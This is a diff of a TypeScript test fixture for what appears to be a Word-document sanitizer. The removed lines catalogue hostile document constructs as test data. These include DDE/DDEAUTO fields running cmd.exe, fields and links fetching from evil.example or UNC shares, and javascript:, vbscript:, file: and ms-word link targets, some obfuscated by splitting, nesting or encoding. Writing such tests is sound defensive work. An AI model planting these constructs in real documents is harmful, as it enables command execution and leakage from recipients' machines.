@@ -1,170 +1,24 @@
-import type { WordFile } from '../package/word-file.fixture.ts'
 import { compoundFile } from './compound-file.fixture.ts'
+import { HOSTILE_FIELDS } from './hostile-fields.fixture.ts'
+import {
+  code,
+  drawing,
+  external,
+  file,
+  mark,
+  object,
+  ole,
+  OLE,
+  picture,
+  relationships,
+  text,
+  vml,
+} from './hostile-markup.fixture.ts'
+import type { HostileConstruct } from './hostile-markup.fixture.ts'
 
-/** Construct that acts by itself, as it stands in a paragraph or between paragraphs of a story. */
-export interface HostileConstruct {
-  name: string
-  /** Content of a paragraph. */
-  inline?: string
-  /** Content that stands between paragraphs. */
-  block?: string
-  links?: { id: string; kind: string; target: string }[]
-  parts?: NonNullable<WordFile['parts']>
-  /** Text a reader saw before, which must still be there. */
-  shown?: string
-}
-
-const VML = 'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office"'
-const text = (shown: string): string => `<w:r><w:t>${shown}</w:t></w:r>`
-const mark = (type: string): string => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`
-const code = (written: string): string =>
-  `<w:r><w:instrText xml:space="preserve">${written}</w:instrText></w:r>`
-export const field = (instruction: string, result: string): string =>
-  mark('begin') + instruction + mark('separate') + text(result) + mark('end')
-const drawing = (inner: string, properties = ''): string =>
-  `<w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="1" name="p">${properties}</wp:docPr><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">${inner}</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>`
-const picture = (blip: string, extra = ''): string =>
-  drawing(
-    `<pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p">${extra}</pic:cNvPr><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill>${blip}</pic:blipFill><pic:spPr/></pic:pic>`,
-  )
-const vml = (inner: string, attributes = ''): string =>
-  `<w:r><w:pict ${VML}><v:shape id="s" style="width:50pt;height:50pt" ${attributes}>${inner}</v:shape></w:pict></w:r>`
-const object = (inner: string, shape = '<v:imagedata r:id="rIdPng"/>'): string =>
-  `<w:r><w:object ${VML}><v:shape id="s1" style="width:50pt;height:50pt" o:ole="">${shape}</v:shape>${inner}</w:object></w:r>`
-const ole = (progId: string, id: string, type = 'Embed'): string =>
-  `<o:OLEObject Type="${type}" ProgID="${progId}" ShapeID="s1" DrawAspect="Content" ObjectID="_1" r:id="${id}"/>`
-const file = (
-  name: string,
-  data: string | Buffer,
-  kind: string,
-  contentType: string,
-  id: string,
-): NonNullable<WordFile['parts']>[number] => ({ name: `word/${name}`, data, kind, contentType, id })
-
-const PNG = Buffer.from(
-  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
-  'base64',
-)
-/** Stored picture that several constructs show. */
-export const storedPicture = file('media/stored.png', PNG, 'image', 'image/png', 'rIdPng')
-const OLE = 'application/vnd.openxmlformats-officedocument.oleObject'
-const external = (id: string, kind: string, target: string) => ({ id, kind, target })
-const link = (name: string, target: string): HostileConstruct => {
-  const id = `rIdL${name.replace(/\W/g, '')}`
-  return {
-    name: `link by ${name}`,
-    inline: `<w:hyperlink r:id="${id}">${text(`words of ${name}`)}</w:hyperlink>`,
-    links: [external(id, 'hyperlink', target)],
-    shown: `words of ${name}`,
-  }
-}
-const activeField = (instruction: string): HostileConstruct => {
-  const name = /\w+/.exec(instruction)?.[0] ?? ''
-  return {
-    name: `field ${name}`,
-    inline: field(code(` ${instruction} `), `result of ${name}`),
-    shown: `result of ${name}`,
-  }
-}
-
+/** One construct of each kind that acts by itself. */
 export const HOSTILE_CONSTRUCTS: HostileConstruct[] = [
-  ...[
-    'DDE cmd.exe "/c calc" x',
-    'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
-    'LINK Excel.Sheet.12 "C:\\\\x.xlsx" "A1" \\a \\f 0 \\p',
-    'INCLUDEPICTURE "http://evil.example/x.png" \\d',
-    'INCLUDETEXT "\\\\\\\\evil\\\\share\\\\x.docx"',
-    'IMPORT "http://evil.example/y.png"',
-    'DATABASE \\d "C:\\\\x.mdb" \\c "DSN=x"',
-    'RD "http://evil.example/z.docx"',
-    'AUTOTEXT secret',
-    'AUTOTEXTLIST "x"',
-    'MACROBUTTON Run "click"',
-    'PRINT 27&amp;l',
-    'HYPERLINK "javascript:alert(1)"',
-    'dDeAuTo cmd x',
-  ].map(activeField),
-  {
-    name: 'instruction split over runs',
-    inline: field(code(' DD') + code('EAU') + code('TO cmd x '), 'result of the split'),
-    shown: 'result of the split',
-  },
-  {
-    name: 'instruction split over paragraphs',
-    block: `<w:p>${mark('begin')}${code(' INCLUDE')}</w:p><w:p>${code('TEXT "http://evil.example/a" ')}${mark('separate')}${text('first line of it')}</w:p><w:p>${text('last line of it')}${mark('end')}</w:p>`,
-    shown: 'last line of it',
-  },
-  {
-    name: 'simple field',
-    inline: `<w:fldSimple w:instr=" DDEAUTO cmd x ">${text('result of the simple one')}</w:fldSimple>`,
-    shown: 'result of the simple one',
-  },
-  {
-    name: 'active field in the instruction of another',
-    inline: field(
-      code(' IF 1 = 1 ') + field(code(' DDEAUTO cmd x '), 'inner') + code(' "no" '),
-      'result of IF',
-    ),
-    shown: 'result of IF',
-  },
-  {
-    name: 'active field in the result of another',
-    inline: `${mark('begin')}${code(' QUOTE x ')}${mark('separate')}${field(code(' DDEAUTO cmd x '), 'nested result')}${mark('end')}`,
-    shown: 'nested result',
-  },
-  {
-    name: 'active field around another',
-    inline: `${mark('begin')}${code(' INCLUDETEXT "http://evil.example" ')}${mark('separate')}${field(code(' PAGE '), 'page 7')}${mark('end')}`,
-    shown: 'page 7',
-  },
-  {
-    name: 'keyword made by a field',
-    inline: field(field(code(' QUOTE "DDEAUTO" '), 'DDEAUTO') + code(' cmd x '), 'result of the made one'),
-    shown: 'result of the made one',
-  },
-  {
-    name: 'address made by a field',
-    inline: field(
-      `${code(' HYPERLINK "')}${field(code(' DOCVARIABLE x '), 'file:///c:/x')}${code('" ')}`,
-      'words of the made link',
-    ),
-    shown: 'words of the made link',
-  },
-  {
-    name: 'instruction written as text',
-    inline: `${mark('begin')}${text(' DDEAUTO cmd x ')}${mark('separate')}${text('result of text')}${mark('end')}`,
-    shown: 'result of text',
-  },
-  {
-    name: 'instruction behind deleted letters',
-    inline: `${mark('begin')}<w:del w:id="9" w:author="a"><w:r><w:delInstrText>X</w:delInstrText></w:r></w:del>${code('DDEAUTO cmd x')}${mark('separate')}${text('result of deleting')}${mark('end')}`,
-    shown: 'result of deleting',
-  },
-  {
-    name: 'field without a result',
-    inline: `${mark('begin')}${code(' DDE cmd x ')}${mark('end')}${text('beside it')}`,
-    shown: 'beside it',
-  },
-  ...(
-    [
-      ['javascript', 'javascript:alert(1)'],
-      ['JaVaScRiPt', 'JaVaScRiPt:alert(1)'],
-      ['encoded javascript', 'java%73cript:alert(1)'],
-      ['entity', '&amp;#106;avascript:alert(1)'],
-      ['tab', 'java&#9;script:alert(1)'],
-      ['vbscript', 'vbscript:msgbox(1)'],
-      ['file', 'file:///C:/Windows/x.exe'],
-      ['UNC', '\\\\evil\\share\\x'],
-      ['slashes', '//evil/share/x'],
-      ['mhtml', 'mhtml:http://evil.example/x!y'],
-      ['data', 'data:text/html;base64,AAAA'],
-      ['ms-office', 'ms-word:ofe|u|http://evil.example/x.docm'],
-      ['search-ms', 'search-ms:query=x'],
-      ['relative path', 'annex/x.exe'],
-      ['ftp', 'ftp://evil.example/x'],
-      ['attaching mail', 'mailto:a@b.example?attach=C:/x'],
-    ] as const
-  ).map(([name, target]) => link(name, target)),
+  ...HOSTILE_FIELDS,
   {
     name: 'linked picture',
     inline: picture('<a:blip r:link="rIdPic"/>'),
@@ -385,12 +239,3 @@ export const HOSTILE_CONSTRUCTS: HostileConstruct[] = [
     shown: 'kept',
   },
 ]
-
-/** Returns a list of external relationships. */
-export function relationships(entries: [id: string, kind: string, target: string][]): string {
-  const lines = entries.map(
-    ([id, kind, target]) =>
-      `<Relationship Id="${id}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="External"/>`,
-  )
-  return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${lines.join('')}</Relationships>`
-}
